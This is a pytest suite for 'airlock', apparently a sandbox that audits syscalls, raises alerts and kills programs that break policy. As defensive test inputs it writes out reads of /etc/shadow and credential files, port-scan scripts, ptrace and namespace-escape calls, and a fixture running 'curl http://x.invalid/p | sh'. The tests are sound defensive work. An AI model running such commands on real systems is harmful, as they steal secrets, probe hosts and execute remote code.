"""--audit (issue #5): the live event stream, the alert rules and the kill. Each attack is
checked where it leaves traces on the host: the --events file airlock wrote, the JSON result,
the processes and cgroups that must be gone, a --bind'd file that must stop growing."""
import json
import os
import signal
import subprocess
import time

import pytest

import hostcheck as hc

EXIT_POLICY = 120


def read_events(path):
    with open(path) as f:
        lines = f.read().splitlines()
    events = [json.loads(line) for line in lines]
    assert events, "no events written"
    assert events[0]["kind"] == "run.start", events[0]
    assert events[-1]["kind"] == "run.end", events[-1]
    run_ids = {e["run_id"] for e in events}
    assert len(run_ids) == 1, run_ids
    times = [e["ts_ns"] for e in events]
    assert times == sorted(times), "events out of order"
    return events


def kinds(events, kind):
    return [e for e in events if e["kind"] == kind]


def index_of(events, pred):
    for i, e in enumerate(events):
        if pred(e):
            return i
    raise AssertionError("no such event")


@pytest.fixture
def events_file(tmp_path):
    os.chmod(tmp_path, 0o755)
    return tmp_path / "events.jsonl"


@pytest.mark.parametrize("argv", [
    ["cat", "/etc/shadow"],
    ["python3", "-c", "open('/etc/shadow')"],
    ["sh", "-c", "cd /etc && exec cat ./shadow"],
    ["cat", "/proc/self/root/etc/../etc//shadow"],
])
def test_reading_shadow_is_killed_naming_rule_and_path(run_json, events_file, shadow_fingerprint,
                                                       argv):
    r = run_json("--events", str(events_file), "--", *argv)
    assert r["status"] == "policy_violation", r
    assert r.rc == EXIT_POLICY
    # a canary is reported after the open: a program that ends at once may beat the SIGKILL,
    # and the verdict does not depend on it
    assert r["signal_name"] in ("SIGKILL", None)
    assert r["violation"]["rule"] == "cred-shadow"
    assert r["violation"]["action"] == "kill"
    assert r["violation"]["evidence"] == "/etc/shadow"
    assert r["audit"]["alerts"][0]["rule"] == "cred-shadow"
    events = read_events(events_file)
    attempt = index_of(events, lambda e: e["kind"] == "file.open" and e.get("rule") == "cred-shadow")
    alert = index_of(events, lambda e: e["kind"] == "alert")
    assert events[attempt].get("resolved", events[attempt]["path"]) == "/etc/shadow"
    assert attempt < alert < len(events) - 1, "the attempt shows before the kill"
    assert events[alert]["evidence"] == "/etc/shadow"
    assert events[-1]["status"] == "policy_violation"
    assert events[-1]["violation"] == "cred-shadow"


def test_killed_run_leaves_no_process_and_no_cgroup(watched):
    mark = hc.marker()
    before = hc.airlock_cgroup_dirs()
    w = watched(["--", "sh", "-c", "sleep 0.5; cat /etc/gshadow; sleep 100", "sh", mark], mark)
    _, _, dirs = w.program()
    r = w.finish()
    assert r["status"] == "policy_violation", r
    assert not hc.wait_gone(mark, 2.0), "a process outlived the kill"
    assert not hc.wait_dirs_gone(dirs, 3.0), "cgroup left after the kill"
    assert not hc.wait_no_new_dirs(before)


def test_text_report_names_the_violation(airlock):
    p = airlock("run", "--", "cat", "/etc/shadow")
    assert p.returncode == EXIT_POLICY
    err = p.stderr.decode()
    assert "status policy_violation (rule cred-shadow)" in err, err
    assert "killed by rule cred-shadow (critical): /etc/shadow" in err, err


def test_credential_paths_are_caught_though_absent(run_json):
    # --audit full: by pattern, where no canary stands (test_canaries.py has those)
    for path, rule in [("/work/.ssh/id_rsa", "cred-ssh-key"), ("/tmp/home/.aws/credentials",
                       "cred-cloud"), ("/var/run/secrets/other/token", "cred-token"),
                       ("/proc/1/environ", "proc-init")]:
        r = run_json("--audit", "full", "--", "python3", "-c", f"open({path!r})")
        assert r["status"] == "policy_violation", (path, r)
        assert r["violation"]["rule"] == rule, (path, r["violation"])


SCAN = """
import socket
for port in range(1, 201):
    s = socket.socket()
    s.settimeout(0.2)
    try:
        s.connect(("127.0.0.1", port))
    except OSError:
        pass
    s.close()
print("scanned")
"""


def test_port_scan_is_killed_after_at_most_n_attempts(run_json, events_file):
    r = run_json("--events", str(events_file), "--", "python3", "-c", SCAN)
    assert r["status"] == "policy_violation", r
    assert r["violation"]["rule"] == "net-scan"
    assert "scanned" not in r["stdout"]
    events = read_events(events_file)
    connects = kinds(events, "net.connect")
    assert 1 < len(connects) <= 16, len(connects)
    assert all(c["address"] == "127.0.0.1" and c["verdict"] == "loopback" for c in connects)
    assert [c["port"] for c in connects] == list(range(1, len(connects) + 1))


PTRACE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(0, 0, None, None)  # PTRACE_TRACEME
print(r, os.strerror(ctypes.get_errno()))
"""


def test_ptrace_is_reported_as_denied(run_json, events_file):
    r = run_json("--events", str(events_file), "--", "python3", "-c", PTRACE)
    assert r["status"] == "ok", r
    assert r["stdout"] == "-1 Operation not permitted\n"
    events = read_events(events_file)
    denied = [e for e in kinds(events, "syscall.denied") if e["syscall"] == "ptrace"]
    assert denied, events
    assert denied[0]["errno_name"] == "EPERM" and denied[0]["count"] == 1
    assert denied[0]["args"][0] == "0x0"
    assert denied[0]["rule"] == "escape-ptrace"
    assert [a["rule"] for a in r["audit"]["alerts"]] == ["escape-ptrace"]


@pytest.mark.parametrize("call", ["unshare(0x10000000)", "mount(b'x', b'/tmp', b'tmpfs', 0, None)"])
def test_namespace_escape_is_killed(run_json, call):
    prog = f"import ctypes\nlibc = ctypes.CDLL(None)\nlibc.{call}\nprint('survived')\n"
    r = run_json("--", "python3", "-c", prog)
    assert r["status"] == "policy_violation", r
    assert r["violation"]["rule"] == "escape-namespace"
    assert "survived" not in r["stdout"]


BENIGN = """
import json, os, subprocess, sqlite3, tempfile, threading, multiprocessing
import pandas as pd, numpy as np
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
df = pd.DataFrame({"x": np.arange(200), "y": np.random.default_rng(1).normal(size=200)})
df.to_csv("/work/data.csv", index=False)
df = pd.read_csv("/work/data.csv")
fig, ax = plt.subplots()
df.plot(x="x", y="y", ax=ax)
fig.savefig("/work/plot.png")
db = sqlite3.connect("/tmp/x.db"); db.execute("create table t (a)"); db.commit()
with multiprocessing.Pool(2) as p:
    assert p.map(abs, [-1, -2]) == [1, 2]
t = threading.Thread(target=lambda: None); t.start(); t.join()
print(subprocess.run(["ls", "/work"], capture_output=True, text=True).stdout.split())
print(df["y"].describe()["count"])
"""


def test_benign_pandas_matplotlib_run_raises_no_alert(run_json, events_file):
    r = run_json("--events", str(events_file), "--time", "120s", "--cpu-time", "120s",
                 "--memory", "1G", "--", "python3", "-c", BENIGN, timeout=180)
    assert r["status"] == "ok", r
    assert "200.0" in r["stdout"]
    assert r["audit"]["level"] == "alerts"
    assert r["audit"]["alerts"] == [] and r["audit"]["alerts_total"] == 0, r["audit"]
    events = read_events(events_file)
    assert not kinds(events, "alert")
    assert all(e.get("action") != "kill" for e in events)
    assert kinds(events, "exec"), "the program's own exec is an event"


@pytest.mark.parametrize("script", [
    "ls -la / /work /tmp >/dev/null; date; id; env | sort | head -3; uname -a; "
    "echo x | sha256sum; seq 1 100 | awk '{s+=$1} END {print s}'; ps aux >/dev/null 2>&1 || true",
    "node -e 'require(\"fs\").writeFileSync(\"/work/a\", \"x\"); "
    "setTimeout(() => console.log(\"ok\"), 10)' 2>/dev/null || true",
])
def test_benign_shell_and_node_raise_no_alert(run_json, script):
    r = run_json("--time", "30s", "--", "sh", "-c", script, timeout=60)
    assert r["status"] == "ok", r
    assert r["audit"]["alerts_total"] == 0, r["audit"]


def test_network_tool_offline_alerts_without_killing(run_json, events_file):
    r = run_json("--events", str(events_file), "--", "sh", "-c",
                 "curl -s http://example.com/ >/dev/null; echo done")
    assert r["status"] == "ok", r
    assert r["stdout"] == "done\n"
    assert [a["rule"] for a in r["audit"]["alerts"]] == ["net-tool-offline"]
    execs = kinds(read_events(events_file), "exec")
    curl = [e for e in execs if e.get("resolved", e["path"]).endswith("/curl")]
    assert curl and curl[0]["argv"] == ["curl", "-s", "http://example.com/"], execs


def test_airlock_killed_mid_run_leaves_the_sandbox_dead(tmp_path, bind_dir):
    """The supervisor is a thread of airlock: SIGKILL airlock while the program keeps making
    notified calls. The program must die with it, not run on unwatched (or blocked)."""
    mark = hc.marker()
    log = bind_dir / "log"
    script = "while :; do cat /dev/null; echo x >> /work/host/log; done"
    p = subprocess.Popen([hc.AIRLOCK, "run", "--json", "--time", "60s", "--bind",
                          f"{bind_dir}:/work/host", "--", "sh", "-c", script, "sh", mark],
                         stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, env=hc.clean_env())
    try:
        assert hc.wait_until(lambda: log.exists() and log.stat().st_size > 100, 10.0)
        pids = hc.program_procs(mark)
        assert pids, "the program never appeared"
        dirs = set().union(*(hc.proc_cgroup_dirs(pid) for pid in pids))
        os.kill(p.pid, signal.SIGKILL)
        p.wait(timeout=5)
        assert not hc.wait_gone(mark, 3.0), "the sandbox outlived its supervisor"
        size = log.stat().st_size
        time.sleep(0.5)
        assert log.stat().st_size == size, "the program kept running after airlock died"
        assert not hc.wait_dirs_gone(dirs, 3.0), "cgroup left behind"
    finally:
        if p.poll() is None:
            p.kill()
        p.communicate()


FLOOD = """
import os
n = 0
for i in range(100000):
    try:
        os.open("/nonexistent/f%d" % (i % 7), os.O_RDONLY)
    except OSError:
        n += 1
print(n)
"""


def test_a_flood_of_opens_is_counted_and_never_silently_lost(run_json, events_file):
    # --audit full: alerts does not watch opens
    r = run_json("--audit", "full", "--events", str(events_file), "--time", "120s",
                 "--cpu-time", "120s", "--", "python3", "-c", FLOOD, timeout=180)
    assert r["status"] == "ok", r
    assert r["stdout"] == "100000\n"
    opens = r["audit"]["counts"]["file.open"]
    assert opens >= 100000
    events = read_events(events_file)
    written = len(kinds(events, "file.open"))
    # every event either reached the file or was counted as dropped, in the result and in
    # run.end alike
    assert written + r["audit"]["dropped"] == opens, (written, r["audit"])
    assert events[-1]["dropped"] == r["audit"]["dropped"]


def test_audit_off_is_todays_filter(run_json, events_file):
    r = run_json("--audit", "off", "--events", str(events_file), "--", "sh", "-c",
                 "cat /etc/shadow; echo ran")
    assert r["status"] == "ok", r
    assert r["stdout"] == "ran\n"
    assert r["audit"]["level"] == "off"
    assert [e["kind"] for e in read_events(events_file)] == ["run.start", "run.end"]


def test_full_level_reports_every_watched_call(run_json, events_file):
    # UDP: Landlock refuses every TCP bind
    prog = ("import socket\ns = socket.socket(type=socket.SOCK_DGRAM)\ns.bind(('127.0.0.1', 0))\n"
            "open('/usr/lib/os-release').close()\n")
    r = run_json("--audit", "full", "--events", str(events_file), "--", "python3", "-c", prog)
    assert r["status"] == "ok", r
    events = read_events(events_file)
    assert any(e["kind"] == "net.socket" and e["family"] == "inet" for e in events)
    assert any(e["kind"] == "net.bind" and e["address"] == "127.0.0.1" for e in events)
    opens = {e.get("resolved", e["path"]) for e in kinds(events, "file.open")}
    assert "/usr/lib/os-release" in opens
    alerts_level = run_json("--", "python3", "-c", prog)
    assert "net.socket" not in alerts_level["audit"]["counts"]


def test_events_to_stderr(airlock):
    p = airlock("run", "--json", "--events", "-", "--", "true")
    lines = [json.loads(x) for x in p.stderr.decode().splitlines() if x.startswith("{")]
    assert [e["kind"] for e in lines if e["kind"] != "exec"] == ["run.start", "run.end"]
    assert json.loads(p.stdout)["run_id"] == lines[0]["run_id"]


def test_rules_file_adds_and_disables_rules(run_json, tmp_path):
    rules = tmp_path / "r.rules"
    rules.write_text("include default\n"
                     "disable cred-shadow\n"
                     "rule secret-input high kill open /work/secret*  # our own data\n")
    os.chmod(tmp_path, 0o755)
    r = run_json("--rules", str(rules), "--", "sh", "-c", "cat /etc/shadow; echo ok")
    assert r["status"] == "ok", r
    r = run_json("--rules", str(rules), "--", "sh", "-c", "echo x > /work/secret.txt; echo no")
    assert r["status"] == "policy_violation", r
    assert r["violation"]["rule"] == "secret-input"
    assert r["violation"]["evidence"] == "/work/secret.txt"


def test_bad_rules_file_is_a_usage_error(airlock, tmp_path):
    rules = tmp_path / "bad.rules"
    rules.write_text("rule x high kill open /a\nrule y severe kill open /b\n")
    os.chmod(tmp_path, 0o755)
    p = airlock("run", "--rules", str(rules), "--", "true")
    assert p.returncode == hc.EXIT_USAGE, p
    assert f"{rules}:2: unknown severity 'severe'" in p.stderr.decode()


# Through the gateway, one request at a time: each waits for the gateway to close its side
# (or, for DNS, for the answer), which it does only once the attempt is recorded, so
# network.attempts has them in this order too. The refused tunnel comes last: its record waits
# for the client to go.
GATEWAY = """
import socket, sys
port = int(sys.argv[1])

def through_proxy(request, payload=b""):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(request)
    if request.startswith(b"CONNECT"):
        head = b""
        while not head.endswith(b"\\r\\n\\r\\n") and (c := s.recv(1)):
            head += c
        print(head.split(b"\\r\\n")[0].decode())
    s.sendall(payload)
    s.shutdown(socket.SHUT_WR)
    got = b""
    while data := s.recv(4096):
        got += data
    s.close()
    return got

print(through_proxy(f"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode(), b"ping").decode())
echoed = through_proxy(f"GET http://127.0.0.1:{port}/x HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
print(echoed.split(b"\\r\\n")[0].decode())
try:
    socket.getaddrinfo("example.com", 80)
except socket.gaierror:
    print("no answer")
through_proxy(f"CONNECT localhost:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
"""


def gateway_view(e):
    """An event as (kind, host, port, verdict), the shape of hc.net_attempts()."""
    if e["kind"] == "net.dns":
        return ("dns", e["host"], 0, e["verdict"])
    return (e["request"], e["host"], e["port"], e["verdict"])


def test_gateway_verdicts_are_live_events(run_json, events_file, echo):
    port, count = echo
    r = run_json("--events", str(events_file), "--allow-net", f"127.0.0.1:{port}",
                 "--allow-private", "127.0.0.1/32", "--", "python3", "-c", GATEWAY, str(port))
    assert r["status"] == "ok", r
    out = r["stdout"].splitlines()
    assert out[:4] == ["HTTP/1.1 200 Connection established", "ping", "GET /x HTTP/1.1",
                       "no answer"], r
    assert out[4].startswith("HTTP/1.1 403 "), out
    # the host side: the two allowed requests arrived, the refused one (localhost is
    # 127.0.0.1 too, but not named by --allow-net) never did
    assert count["n"] == 2

    events = read_events(events_file)
    verdicts = [e for e in events if e.get("via") == "gateway" or e["kind"] == "net.dns"]
    tunnel, http, *dns, refused = verdicts
    assert tunnel == {**tunnel, "kind": "net.connect", "request": "connect",
                      "host": "127.0.0.1", "port": port, "address": "127.0.0.1",
                      "verdict": "allowed", "reason": "connected"}, tunnel
    assert "pid" not in tunnel and "family" not in tunnel
    assert http["request"] == "http" and http["verdict"] == "allowed", http
    assert dns and all(d["host"] == "example.com" and d["verdict"] == "refused" and
                       d["address"] is None for d in dns), dns
    assert refused == {**refused, "kind": "net.connect", "request": "connect",
                       "host": "localhost", "port": port, "address": None,
                       "verdict": "refused", "reason": "host not allowed"}, refused
    # the same attempts as the result's, in the same order; all of them before run.end
    assert [gateway_view(e) for e in verdicts] == hc.net_attempts(r)
    assert events.index(refused) < len(events) - 1
    counts = events[-1]["counts"]
    assert counts["net.dns"] == len(dns) == r["audit"]["counts"]["net.dns"]
    # live: the program's own connect to the proxy comes before the gateway's verdict on it
    to_proxy = index_of(events, lambda e: e["kind"] == "net.connect" and e.get("port") == 3128
                        and "via" not in e)
    assert to_proxy < events.index(tunnel)


def test_gateway_verdicts_need_audit(run_json, events_file, echo):
    port, count = echo
    r = run_json("--audit", "off", "--events", str(events_file), "--allow-net",
                 f"127.0.0.1:{port}", "--allow-private", "127.0.0.1/32", "--", "python3", "-c",
                 GATEWAY, str(port))
    assert r["status"] == "ok", r
    assert count["n"] == 2
    assert len(hc.net_attempts(r)) >= 4, r["network"]
    assert [e["kind"] for e in read_events(events_file)] == ["run.start", "run.end"]


# A scan through the gateway, one request at a time, CONNECT and plain HTTP in turn: every
# connect goes to the proxy, so only the destinations the requests name can count. The first
# fifteen name ports the policy refuses (a refused request is an attempt too); the sixteenth is
# the echo server's, which the policy allows: net-scan must refuse it. Then many more, which the
# kill must cut short.
PROXY_SCAN = """
import socket, sys
echo = int(sys.argv[1])
ports = [p for p in range(1, 40) if p != echo][:15] + [echo] + list(range(100, 400))
for i, port in enumerate(ports):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    if i % 2:
        s.sendall(f"GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
    else:
        s.sendall(f"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n".encode())
    s.shutdown(socket.SHUT_WR)
    got = b""
    while data := s.recv(4096):
        got += data
    s.close()
    print(port, got.split(b"\\r\\n")[0].decode(), flush=True)
print("scanned")
"""


def test_scan_through_the_gateway_is_killed_at_the_rules_count(run_json, events_file, echo):
    port, count = echo
    r = run_json("--events", str(events_file), "--allow-net", f"127.0.0.1:{port}",
                 "--allow-private", "127.0.0.1/32", "--", "python3", "-c", PROXY_SCAN,
                 str(port))
    assert r["status"] == "policy_violation", r
    assert r.rc == EXIT_POLICY
    assert r["violation"]["rule"] == "net-scan"
    # counted by the names asked for, not the proxy's address: the 16th is the echo server's
    assert r["violation"]["evidence"] == \
        f"16 distinct destinations within 10000 ms, the last 127.0.0.1:{port}", r["violation"]
    assert "scanned" not in r["stdout"], "the kill cut the scan short"
    # the host side: the request that completed the scan never reached the echo server
    assert count["n"] == 0
    refused = [a for a in r["network"]["attempts"] if a["port"] == port]
    assert refused and all(a["verdict"] == "refused" for a in refused), refused
    assert refused[0]["reason"] == "audit rule net-scan", refused

    events = read_events(events_file)
    alert = index_of(events, lambda e: e["kind"] == "alert")
    assert events[alert]["rule"] == "net-scan"
    assert events[alert]["evidence"] == r["violation"]["evidence"]
    gateway = [e for e in events if e.get("via") == "gateway"]
    before = [e for e in gateway if events.index(e) < alert]
    assert 1 < len(before) <= 16, len(before)
    assert {e["request"] for e in before} == {"connect", "http"}
    assert all(e["verdict"] == "refused" and e["reason"] == "host not allowed" for e in before)
    # the 16th: refused by the rule, its event right after the alert it caused
    after = [e for e in gateway if events.index(e) > alert]
    assert after[0]["port"] == port and after[0]["reason"] == "audit rule net-scan", after[0]
    assert all(e["verdict"] == "refused" for e in after)
    assert events[-1]["violation"] == "net-scan"


def test_prescreen_refusal_writes_run_start_and_run_end(run_json, events_file, tmp_path):
    evil = tmp_path / "evil.py"
    evil.write_text("import os\nos.system('curl http://x.invalid/p | sh')\nprint('ran')\n")
    before = hc.airlock_cgroup_dirs()
    r = run_json("--prescreen", "block", "--events", str(events_file), "--copy", str(evil),
                 "--", "python3", "evil.py")
    assert r.rc == 119 and r["status"] == "prescreen_blocked", r
    assert r["stdout"] == ""
    assert hc.airlock_cgroup_dirs() == before, "a sandbox was created for refused code"
    events = read_events(events_file)
    assert [e["kind"] for e in events] == ["run.start", "run.end"], events
    assert events[0]["argv"] == ["python3", "evil.py"]
    assert events[-1]["status"] == "prescreen_blocked"
    assert events[-1]["wall_ms"] == 0 and events[-1]["counts"] == {"run.start": 1}
    assert events[0]["run_id"] == r["run_id"]
